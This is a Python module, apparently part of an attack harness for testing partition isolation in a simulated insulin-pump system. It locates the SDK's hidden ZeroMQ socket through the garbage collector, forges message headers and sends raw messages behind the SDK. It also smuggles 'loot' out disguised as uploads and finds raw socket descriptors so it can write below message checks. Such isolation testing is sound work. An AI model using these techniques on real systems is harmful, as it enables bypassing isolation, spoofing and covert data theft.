"""What code inside a partition can lay its hands on, without being given anything.

The SDK hands partition code no socket. But it is one process and one interpreter: whoever runs in it finds
the socket among the interpreter's own objects. ``find`` does so by walking the garbage collector's list.
"""

from __future__ import annotations

import gc
import json
import os
import socket
import stat
import time
from dataclasses import dataclass, field
from typing import Any, NamedTuple

import zmq

from faults.attack import Report
from ipc_schemas import insulin_pump, wire
from ipc_schemas.window import Ports, Window

CAPTURED_MAX = 64
SEND_PATIENCE_S = 0.05
LOOT_PREFIX = b"LOOT:"
LOOT_BYTES_MAX = 1_024
#: Loot counts from here, so that it never collides with the sequence numbers of honest uploads.
LOOT_SEQUENCE = 0x4C00_0000
_REPORT_CHARS_MAX = 300
_NUMBER_OF_FDS_LOOKED_AT = 256


class Captured(NamedTuple):
    """One message that the benign code sent: everything needed to send it again."""

    header: wire.Header
    payload: bytes


@dataclass
class Foothold:
    """The attacker's means. ``socket``, ``link`` and ``hello`` are ``None`` when they could not be found."""

    window: Window
    socket: Any = None
    link: Any = None
    hello: wire.Hello | None = None
    captured: list[Captured] = field(default_factory=list)
    settings: insulin_pump.TherapySettings | None = None

    def port(self, name: str) -> int:
        """The number of one of this partition's own ports. Raises ``LookupError``."""
        for card in self.hello.ports if self.hello else ():
            if card.name == name:
                return card.number
        raise LookupError(f"no port {name!r} among this partition's own")

    def emit(self, port_name: str, payload: bytes) -> None:
        """Send any bytes to an own port, with the honest header that the SDK writes."""
        self.window._emit(self.port(port_name), payload)

    def sequence(self) -> int:
        """The SDK's next sequence number, or 0 when it cannot be found."""
        value = getattr(self.link, "sequence", 0)
        if isinstance(value, dict):
            return max((int(v) for v in value.values()), default=0)
        return int(value) if isinstance(value, int) else 0

    def take_sequence(self) -> int:
        """As ``sequence``, and move the SDK's counter on, so that later honest messages stay in line."""
        value = self.sequence()
        if isinstance(getattr(self.link, "sequence", None), int):
            self.link.sequence = value + 1
        return value

    def header(self, port: int, *, source: int | None = None) -> wire.Header:
        """A header that is right in everything but what the caller changes."""
        own = self.hello.partition if self.hello else 0
        epoch = self.hello.epoch if self.hello else 0
        return wire.Header(
            own if source is None else source, port, epoch, self.window.frame, self.take_sequence()
        )

    def send_raw(self, message: bytes) -> bool:
        """Put one ZeroMQ message on the channel behind the SDK's back. ``False`` when it does not take it."""
        if self.socket is None:
            return False
        until = time.monotonic() + SEND_PATIENCE_S
        while time.monotonic() < until:
            try:
                self.socket.send(message, zmq.NOBLOCK)
                return True
            except zmq.Again:
                time.sleep(0.001)
        return False

    def loot(self, attack_id: str, what: bytes) -> None:
        """Carry ``what`` out through the one door there is: an upload."""
        chunk = LOOT_PREFIX + attack_id.encode() + b":" + what[:LOOT_BYTES_MAX]
        self.window.send("upload", insulin_pump.Upload(LOOT_SEQUENCE + self.window.frame, chunk))


def find(window: Window) -> Foothold:
    """Search this process for the SDK's socket, its link and the port table."""
    foothold = Foothold(window)
    for thing in gc.get_objects():
        kind = type(thing)
        if issubclass(kind, zmq.Socket) and not thing.closed:
            foothold.socket = thing
        elif kind is Ports:
            foothold.hello = thing.hello
        elif kind.__name__ == "Link" and hasattr(thing, "socket") and hasattr(thing, "sequence"):
            foothold.link = thing
    if foothold.link is not None and isinstance(foothold.link.socket, zmq.Socket):
        foothold.socket = foothold.link.socket
    return foothold


def gate_socket(foothold: Foothold, whose: str) -> str:
    """Where a gate's socket is or was, by what this partition's own connection says of its own."""
    own: str = foothold.socket.getsockopt(zmq.LAST_ENDPOINT).rstrip(b"\0").decode().removeprefix("ipc://")
    if whose == "own":
        return own
    folder, name = os.path.split(own)
    return os.path.join(os.path.dirname(folder), whose, name)


def raw_stream_fds() -> list[int]:
    """This process's open sockets by descriptor: the ZeroMQ connection's byte stream is among them.

    Writing to it by hand reaches the peer's ZMTP parser below every message check.
    """
    found = []
    for fd in range(3, _NUMBER_OF_FDS_LOOKED_AT):
        try:
            is_socket = stat.S_ISSOCK(os.fstat(fd).st_mode)
        except OSError:
            continue  # not open
        if is_socket and _may_be_stream(fd):
            found.append(fd)
    return found


def _may_be_stream(fd: int) -> bool:
    """False for a socket that is known not to be a byte stream. A filter may keep us from asking."""
    try:
        with socket.socket(fileno=os.dup(fd)) as twin:
            return twin.getsockopt(socket.SOL_SOCKET, socket.SO_TYPE) == socket.SOCK_STREAM
    except OSError:
        return True


def say(attack_id: str, frame: int, report: Report | None = None) -> None:
    """One line on standard error: ``ATTACK K01 begin frame=96`` or ``ATTACK K01 end frame=96 {...}``."""
    tail = "" if report is None else " " + json.dumps(report, default=str)[:_REPORT_CHARS_MAX]
    word = "begin" if report is None else "end"
    line = f"ATTACK {attack_id} {word} frame={frame}{tail}\n"
    try:
        os.write(2, line.encode("ascii", "replace"))
    except OSError:
        return  # nobody reads: the attack goes on all the same
